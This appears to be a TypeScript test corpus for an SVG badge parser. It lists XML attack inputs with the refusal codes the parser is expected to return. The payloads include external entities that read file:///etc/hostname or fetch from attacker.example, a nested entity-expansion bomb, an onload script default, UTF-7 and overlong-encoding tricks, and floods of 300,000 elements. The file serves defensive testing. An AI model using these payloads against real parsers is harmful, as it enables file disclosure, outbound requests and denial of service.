/**
 * XML that fetches, repeats or disguises (threats B7, B12).
 * @module
 */
import { carrier, SVG, svg } from '../../support/svg.ts'
import { type Attack, attacksOn, type Expectation, passed, refused, unknown } from '../corpus.ts'
import { badge, own, picture } from '../svg-badge.ts'

const attack = attacksOn(picture)

const doctype = unknown('parse', 'OB_SVG_DOCTYPE')
const noXml = refused('parse', 'OB_SVG_MALFORMED')
const encoding = refused('parse', 'OB_SVG_ENCODING')
const fine = passed('parse')

type Row = readonly [threat: string, name: string, picture: string, expected: Expectation]

const described = (entity: string) => svg(`<desc>${entity}</desc>${own}`)

const doctypes: readonly Row[] = (
  [
    ['an entity that holds the badge', `[<!ENTITY b '${badge}'>]`, svg(carrier('&b;'))],
    ['an entity of a file', '[<!ENTITY b SYSTEM "file:///etc/hostname">]', described('&b;')],
    ['an entity of a web address', '[<!ENTITY b SYSTEM "https://attacker.example/b">]', described('&b;')],
    [
      'an entity of entities',
      '[<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]',
      described('&c;')
    ],
    ['an entity of itself', '[<!ENTITY a "&a;">]', described('&a;')],
    ['a parameter entity', '[<!ENTITY % p SYSTEM "https://attacker.example/p">%p;]', svg(own)],
    ['another meaning for a known entity', '[<!ENTITY lt "X">]', described('&lt;')],
    ['a default for an attribute', '[<!ATTLIST svg onload CDATA "alert(1)">]', svg(own)],
    ['a notation', '[<!NOTATION n SYSTEM "n">]', svg(own)],
    ['nothing but its name', '', svg(own)],
    [
      'an address of its own',
      'PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"',
      svg(own)
    ]
  ] as const
).map(([what, subset, content]) => [
  'B7',
  `a DOCTYPE with ${what}`,
  `<!DOCTYPE svg ${subset}>${content}`,
  doctype
])

const rows: readonly Row[] = [
  ['B7', 'a doctype in small letters', `<!doctype svg>${svg(own)}`, unknown('parse', 'OB_INPUT_KIND')],
  ['B7', 'a DOCTYPE behind the root', `${svg(own)}<!DOCTYPE svg>`, doctype],
  ['B7', 'an entity that nobody has declared', svg(carrier('&badge;')), refused('parse', 'OB_SVG_ENTITY')],
  ['B12', 'XML 1.1', `<?xml version="1.1"?>${svg(own)}`, refused('parse', 'OB_SVG_XML_VERSION')],
  ['B12', 'a declaration of Latin-1', `<?xml version="1.0" encoding="ISO-8859-1"?>${svg(own)}`, encoding],
  ['B12', 'a declaration of UTF-16 in UTF-8', `<?xml version="1.0" encoding="UTF-16"?>${svg(own)}`, encoding],
  ['B12', 'a declaration of UTF-7', `<?xml version="1.0" encoding="UTF-7"?>${svg(own)}`, encoding],
  [
    'B12',
    'a declaration that it stands alone',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${svg(own)}`,
    fine
  ],
  ['B12', 'a byte order mark', `\ufeff${svg(own)}`, fine],
  ['B12', 'a declaration behind a blank', ` <?xml version="1.0"?>${svg(own)}`, noXml],
  ['B12', 'a NUL in the drawing', svg(`<desc>\u0000</desc>${own}`), noXml],
  ['B12', 'a control in the drawing', svg(`<desc>\u0001</desc>${own}`), noXml],
  [
    'B12',
    'another root',
    svg(own).replaceAll('svg', 'html').replaceAll(SVG.replace('svg', 'html'), SVG),
    unknown('parse', 'OB_INPUT_KIND')
  ],
  ['B12', 'a root without end', svg(own).replace('</svg>', ''), noXml]
]

const latin1 = (picture: string) => Uint8Array.from(Buffer.from(picture, 'latin1'))
const utf16 = (picture: string) => Uint8Array.from(Buffer.from(picture, 'utf16le'))

const start = `<svg xmlns="${SVG}">${own}`
const end = { text: '</svg>' }
const limit = (name: 'ELEMENTS' | 'ELEMENT_DEPTH' | 'ATTRIBUTES') => refused('parse', `OB_LIMIT_${name}`)

const long: readonly Attack[] = [
  attack(
    'B7',
    '300,000 elements',
    [{ text: start }, { text: '<g/>', times: 300_000 }, end],
    limit('ELEMENTS')
  ),
  attack(
    'B7',
    '100,000 elements in each other',
    [{ text: start }, { text: '<g>', times: 100_000 }, { text: '</g>', times: 100_000 }, end],
    limit('ELEMENT_DEPTH')
  ),
  attack(
    'B7',
    '30,000 attributes',
    [
      { text: `<svg xmlns="${SVG}"` },
      { text: ' a#="1"', times: 30_000, counted: true },
      { text: `>${own}` },
      end
    ],
    limit('ATTRIBUTES')
  )
]

export const svgXml: readonly Attack[] = [
  ...[...doctypes, ...rows].map(row => attack(...row)),
  attack('B12', 'Latin-1', latin1(described('\u00e9')), encoding),
  attack('B12', 'UTF-16', utf16(`\ufeff${svg(own)}`), encoding),
  attack('B12', 'UTF-16 without mark', utf16(svg(own)), encoding),
  attack('B12', 'an overlong letter', latin1(described('\u00c0\u00bc')), encoding),
  ...long
]
